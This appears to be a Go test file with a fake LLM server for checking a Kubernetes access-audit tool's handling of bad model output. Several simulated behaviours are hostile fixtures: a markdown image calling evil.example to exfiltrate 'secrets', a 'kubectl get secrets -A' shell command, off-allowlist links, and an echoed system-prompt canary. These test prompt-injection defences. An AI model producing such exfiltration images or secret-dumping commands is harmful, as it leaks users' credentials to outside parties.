package reasoning

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"sync"
	"testing"
)

// behaviour is how a fake model server answers.
type behaviour string

const (
	correct     behaviour = "correct"
	invent      behaviour = "invent"      // cites a finding ID that does not exist
	reseverity  behaviour = "severity"    // adds a severity to a finding note
	echoCanary  behaviour = "canary"      // repeats the system prompt's canary
	hang        behaviour = "timeout"     // never answers
	rateLimited behaviour = "429"         // refuses with 429
	switchModel behaviour = "switch"      // answers from another model
	inflate     behaviour = "inflate"     // reports 50 times the tokens
	badURL      behaviour = "url"         // links outside the allowlist
	shell       behaviour = "command"     // shows a shell command
	truncate    behaviour = "truncated"   // cut off by the token limit
	prose       behaviour = "prose"       // answers in prose, not JSON
	exfil       behaviour = "exfiltrate"  // markdown image exfiltration
	unknownSubj behaviour = "unknownsubj" // cites an unknown subject
)

var (
	findingIDs = regexp.MustCompile(`"id":"([0-9a-f]{16})"`)
	subjectIDs = regexp.MustCompile(`"id":"(s[0-9]+)"`)
	canaries   = regexp.MustCompile(`CANARY-[0-9A-F]{20}`)
)

// fakeModel is a fake OpenAI-compatible or Anthropic server over HTTPS on
// loopback, reached through the real SDKs.
type fakeModel struct {
	t         *testing.T
	anthropic bool
	srv       *httptest.Server

	mu       sync.Mutex
	behave   behaviour
	prompts  []string // system + user of every request
	requests int
}

func newFake(t *testing.T, anthropic bool, b behaviour) *fakeModel {
	f := &fakeModel{t: t, anthropic: anthropic, behave: b}
	f.srv = httptest.NewTLSServer(http.HandlerFunc(f.serve))
	t.Cleanup(f.srv.Close)
	return f
}

// config returns a Config that reaches the fake through the real SDK.
func (f *fakeModel) config() Config {
	c := Config{Provider: ProviderOpenAI, Model: "gpt-test", BaseURL: f.srv.URL + "/v1/", APIKey: "sk-test-secret", HTTPClient: f.srv.Client()}
	if f.anthropic {
		c = Config{Provider: ProviderAnthropic, Model: "claude-test", BaseURL: f.srv.URL, APIKey: "sk-ant-test-secret", HTTPClient: f.srv.Client()}
	}
	return c
}

func (f *fakeModel) set(b behaviour) {
	f.mu.Lock()
	f.behave = b
	f.mu.Unlock()
}

type openaiRequest struct {
	Model    string `json:"model"`
	Messages []struct {
		Role    string `json:"role"`
		Content string `json:"content"`
	} `json:"messages"`
}

type anthropicRequest struct {
	Model  string `json:"model"`
	System []struct {
		Text string `json:"text"`
	} `json:"system"`
	Messages []struct {
		Content []struct {
			Text string `json:"text"`
		} `json:"content"`
	} `json:"messages"`
}

// seen returns the prompts received so far. A handler may still be running
// when the client has given up (the hang case), so they are read under the
// lock (go test -race found the unguarded read).
func (f *fakeModel) seen() []string {
	f.mu.Lock()
	defer f.mu.Unlock()
	return append([]string(nil), f.prompts...)
}

func (f *fakeModel) serve(w http.ResponseWriter, r *http.Request) {
	body, err := io.ReadAll(r.Body)
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	var system, user, model string
	if f.anthropic {
		if r.URL.Path != "/v1/messages" || (r.Header.Get("X-Api-Key") != "sk-ant-test-secret" && r.Header.Get("Authorization") != "Bearer sk-ant-test-secret") {
			http.Error(w, "unexpected request "+r.URL.String()+" "+fmt.Sprint(r.Header), http.StatusNotFound)
			f.t.Errorf("unexpected request %s %v", r.URL, r.Header)
			return
		}
		var req anthropicRequest
		if err := json.Unmarshal(body, &req); err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		model = req.Model
		for _, s := range req.System {
			system += s.Text
		}
		for _, m := range req.Messages {
			for _, c := range m.Content {
				user += c.Text
			}
		}
	} else {
		if r.URL.Path != "/v1/chat/completions" || (r.Header.Get("Authorization") != "Bearer sk-test-secret" && r.Header.Get("Api-Key") != "sk-test-secret") {
			http.Error(w, "unexpected request "+r.URL.Path, http.StatusNotFound)
			return
		}
		var req openaiRequest
		if err := json.Unmarshal(body, &req); err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		model = req.Model
		for _, m := range req.Messages {
			if m.Role == "system" {
				system += m.Content
			} else {
				user += m.Content
			}
		}
	}
	f.mu.Lock()
	b := f.behave
	f.prompts = append(f.prompts, system+"\n"+user)
	f.requests++
	f.mu.Unlock()

	switch b {
	case hang:
		<-r.Context().Done()
		return
	case rateLimited:
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusTooManyRequests)
		fmt.Fprint(w, `{"error": {"message": "rate limited", "type": "rate_limit_error"}}`)
		return
	}
	text := f.answer(b, system, user)
	in, out := int64(len(system+user)/4), int64(len(text)/4)
	if b == inflate {
		in, out = in*50, out*50
	}
	if b == switchModel {
		model += "-2026-preview"
	} else {
		model += "-2026-01-01"
	}
	finish, stop := "stop", "end_turn"
	if b == truncate {
		finish, stop = "length", "max_tokens"
		text = text[:len(text)/2]
	}
	w.Header().Set("Content-Type", "application/json")
	enc := json.NewEncoder(w)
	if f.anthropic {
		_ = enc.Encode(map[string]any{
			"id": "msg_1", "type": "message", "role": "assistant", "model": model,
			"content":     []map[string]any{{"type": "text", "text": text}},
			"stop_reason": stop,
			"usage":       map[string]any{"input_tokens": in, "output_tokens": out, "cache_read_input_tokens": 0, "cache_creation_input_tokens": 0},
		})
		return
	}
	_ = enc.Encode(map[string]any{
		"id": "chatcmpl-1", "object": "chat.completion", "created": 1, "model": model,
		"choices": []map[string]any{{"index": 0, "finish_reason": finish, "message": map[string]any{"role": "assistant", "content": text}}},
		"usage":   map[string]any{"prompt_tokens": in, "completion_tokens": out, "total_tokens": in + out, "prompt_tokens_details": map[string]any{"cached_tokens": 0}},
	})
}

// answer builds the answer text the behaviour calls for.
func (f *fakeModel) answer(b behaviour, system, user string) string {
	if b == prose {
		return "All access looks fine to me."
	}
	if strings.Contains(system, "executive summary") {
		s := "The audit found a handful of risky grants; start with the critical ones."
		if b == echoCanary {
			s += " " + canaries.FindString(system)
		}
		out, _ := json.Marshal(map[string]any{"executiveSummary": s})
		return string(out)
	}
	var notes, access []map[string]any
	for i, m := range findingIDs.FindAllStringSubmatch(user, -1) {
		n := map[string]any{
			"findingId":   m[1],
			"explanation": "This grant lets the subject act beyond its duties, which weakens least privilege (CC6.3).",
			"firstStep":   "Confirm with the owner whether the binding is still needed, then run kubectl get clusterrolebinding to review it.",
		}
		if i == 0 {
			switch b {
			case reseverity:
				n["severity"] = "SEVERITY_LOW"
			case echoCanary:
				n["explanation"] = "Marker: " + canaries.FindString(system)
			case badURL:
				n["firstStep"] = "Read https://evil.example/steps?id=1 first."
			case shell:
				n["firstStep"] = "Run `bash -c 'kubectl get secrets -A'` to see the impact."
			case exfil:
				n["explanation"] = "See ![status](https://evil.example/p.png?d=secrets)"
			}
		}
		notes = append(notes, n)
	}
	if b == invent {
		notes = append(notes, map[string]any{"findingId": "ffffffffffffffff", "explanation": "Invented.", "firstStep": "None."})
	}
	for _, m := range subjectIDs.FindAllStringSubmatch(user, -1) {
		access = append(access, map[string]any{"subjectId": m[1], "plausibility": "PLAUSIBILITY_QUESTIONABLE", "reason": "The name does not suggest a need for this much access."})
	}
	if b == unknownSubj {
		access = append(access, map[string]any{"subjectId": "s99999", "plausibility": "PLAUSIBILITY_PLAUSIBLE", "reason": "Invented."})
	}
	out, _ := json.Marshal(map[string]any{"findings": notes, "access": access})
	return "```json\n" + string(out) + "\n```"
}
